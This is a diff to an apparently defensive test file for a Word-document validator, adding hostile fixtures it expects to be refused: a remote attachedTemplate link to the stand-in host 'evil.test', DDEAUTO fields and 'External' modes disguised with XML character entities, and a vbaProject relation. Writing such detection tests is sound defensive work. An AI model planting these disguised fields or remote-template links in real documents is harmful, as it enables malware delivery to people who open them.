@@ -92,6 +92,7 @@ def test_a_long_plan_is_set_in_time() -> None:
 
 DOCUMENT = word_files.BODY
 TYPES = word_files.TYPES
+RELATIONS = "word/_rels/document.xml.rels"
 LINK = (
     '<Relationship Id="rId99" TargetMode="External" Target="https://evil.test/t.dotm" '
     'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
@@ -116,6 +117,20 @@ UNLIKE: dict[str, Callable[[], bytes]] = {
     "a field of Word that runs": lambda: word_files.changed(DOCUMENT, "</w:p>", FIELD),
     "a link outside": lambda: word_files.changed(
         "word/_rels/document.xml.rels", "</Relationships>", LINK
+    ),
+    "a field of Word that is disguised": lambda: word_files.changed(
+        DOCUMENT, "</w:p>", FIELD.replace("DDEAUTO", "&#68;&#68;&#69;&#65;UTO")
+    ),
+    "a link outside that is disguised": lambda: word_files.changed(
+        RELATIONS, "</Relationships>", LINK.replace('"External"', '"&#69;xternal"')
+    ),
+    "a relation that no letter needs": lambda: word_files.changed(
+        RELATIONS,
+        "</Relationships>",
+        LINK.replace(' TargetMode="External"', "").replace("attachedTemplate", "vbaProject"),
+    ),
+    "a template attached": lambda: word_files.changed(
+        "word/settings.xml", "</w:settings>", "<w:attachedTemplate/></w:settings>"
     ),
     "macros": lambda: word_files.with_part("word/vbaProject.bin", b"x"),
     "macros by type": lambda: word_files.changed(
@@ -150,6 +165,10 @@ REFUSED = {
     "a list printed whole": "{{ sections }} is a list",
     "an unclosed loop": "In the document",
     "a field of Word that runs": "the field “DDEAUTO”",
+    "a field of Word that is disguised": "the field “DDEAUTO”",
+    "a link outside that is disguised": "points outside the file",
+    "a relation that no letter needs": "“vbaProject”",
+    "a template attached": "attachedTemplate",
     "a link outside": "points outside the file, to “https://evil.test/t.dotm”",
     "macros": "The file holds macros \\(word/vbaProject.bin\\)",
     "macros by type": "plain Word document|macros",
